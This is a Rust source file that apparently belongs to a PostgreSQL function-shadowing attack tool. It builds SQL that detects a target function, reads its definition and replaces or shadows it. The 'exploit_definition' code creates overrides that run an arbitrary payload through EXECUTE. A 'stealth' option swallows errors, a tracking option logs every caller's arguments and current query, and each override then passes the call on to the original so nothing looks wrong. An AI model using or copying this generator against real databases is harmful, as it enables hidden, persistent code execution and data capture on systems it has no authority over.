use crate::candidate::key::CandidateKey;
use crate::catalog::function::CatalogFunction;
use crate::catalog::names::quote_identifier;
use crate::deploy::tracking::TRIGGERS_TABLE;
use crate::session::quote_literal;

const INDENT: &str = "    ";

/// How an override body is wrapped around its action.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitBody<'a> {
    /// SQL run through `EXECUTE`.
    pub payload: &'a str,
    /// Swallow any error from tracking or payload.
    pub stealth: bool,
    /// Insert one row per invocation into the tracking table.
    pub tracking: bool,
}

/// `SELECT (to_regprocedure('...') IS NOT NULL) AS present`.
pub fn exists_query(key: &CandidateKey) -> String {
    format!(
        "SELECT (pg_catalog.to_regprocedure({}) IS NOT NULL) AS present",
        quote_literal(&key.regprocedure())
    )
}

/// Full `CREATE OR REPLACE FUNCTION` text of whatever `key` currently names.
pub fn definition_query(key: &CandidateKey) -> String {
    format!(
        "SELECT pg_catalog.pg_get_functiondef(pg_catalog.to_regprocedure({})) AS definition",
        quote_literal(&key.regprocedure())
    )
}

/// Exact inverse of any definition rendered for `key`.
pub fn drop_statement(key: &CandidateKey) -> String {
    format!("DROP FUNCTION IF EXISTS {}", key.regprocedure())
}

/// Unqualified call with typed `NULL` arguments, so the server's resolver
/// picks between the override and the original.
pub fn test_query(key: &CandidateKey) -> String {
    let args = key
        .signature
        .types()
        .iter()
        .map(|ty| format!("NULL::{ty}"))
        .collect::<Vec<_>>()
        .join(", ");
    format!("SELECT {}({args})", quote_identifier(&key.name))
}

/// Benign override: record `marker`, then behave exactly like the original.
pub fn test_definition(
    key: &CandidateKey,
    original: &CatalogFunction,
    marker: &str,
    replace: bool,
) -> String {
    let mut body = vec![format!("{INDENT}BEGIN")];
    body.extend(indent_lines(marker, 2));
    body.push(format!("{INDENT}EXCEPTION WHEN OTHERS THEN"));
    body.push(format!("{INDENT}{INDENT}NULL;"));
    body.push(format!("{INDENT}END;"));
    body.push(delegate_statement(original));
    function_ddl(key, original, &body, replace)
}

/// Payload-bearing override that still returns the original's result.
pub fn exploit_definition(
    key: &CandidateKey,
    original: &CatalogFunction,
    exploit: &ExploitBody<'_>,
    replace: bool,
) -> String {
    let mut actions = Vec::new();
    if exploit.tracking {
        actions.push(tracking_insert(key, original));
    }
    actions.push(format!("EXECUTE {};", quote_literal(exploit.payload)));

    let mut body = Vec::new();
    if exploit.stealth {
        body.push(format!("{INDENT}BEGIN"));
        for action in &actions {
            body.extend(indent_lines(action, 2));
        }
        body.push(format!("{INDENT}EXCEPTION WHEN OTHERS THEN"));
        body.push(format!("{INDENT}{INDENT}NULL;"));
        body.push(format!("{INDENT}END;"));
    } else {
        for action in &actions {
            body.extend(indent_lines(action, 1));
        }
    }
    body.push(delegate_statement(original));
    function_ddl(key, original, &body, replace)
}

fn tracking_insert(key: &CandidateKey, original: &CatalogFunction) -> String {
    let params = if original.arity() == 0 {
        "''".to_string()
    } else {
        let items = (1..=original.arity())
            .map(|i| format!("${i}::text"))
            .collect::<Vec<_>>()
            .join(", ");
        format!("pg_catalog.array_to_string(ARRAY[{items}], ', ', 'NULL')")
    };
    format!(
        "INSERT INTO {TRIGGERS_TABLE} (fname, params, current_query) VALUES ({}, {params}, pg_catalog.current_query());",
        quote_literal(&key.name)
    )
}

fn delegate_statement(original: &CatalogFunction) -> String {
    let args = original
        .params_type
        .iter()
        .enumerate()
        .map(|(i, ty)| format!("${}::{ty}", i + 1))
        .collect::<Vec<_>>()
        .join(", ");
    let call = format!("{}({args})", original.qualified_name());
    if original.returns_void() {
        format!("{INDENT}PERFORM {call};")
    } else {
        format!("{INDENT}RETURN {call};")
    }
}

fn function_ddl(
    key: &CandidateKey,
    original: &CatalogFunction,
    body: &[String],
    replace: bool,
) -> String {
    let mut text = String::from("BEGIN\n");
    for line in body {
        text.push_str(line);
        text.push('\n');
    }
    text.push_str("END");

    let tag = dollar_tag(&text);
    let verb = if replace {
        "CREATE OR REPLACE FUNCTION"
    } else {
        "CREATE FUNCTION"
    };
    format!(
        "{verb} {}\nRETURNS {}\nLANGUAGE plpgsql\nAS {tag}\n{text}\n{tag}",
        key.regprocedure(),
        original.return_type
    )
}

/// A dollar-quote delimiter that does not occur in `body`.
pub fn dollar_tag(body: &str) -> String {
    let mut tag = "$pgshadow$".to_string();
    let mut n = 0usize;
    while body.contains(&tag) {
        n += 1;
        tag = format!("$pgshadow_{n}$");
    }
    tag
}

fn indent_lines(text: &str, depth: usize) -> Vec<String> {
    let prefix = INDENT.repeat(depth);
    text.lines()
        .map(|line| format!("{prefix}{line}"))
        .collect()
}
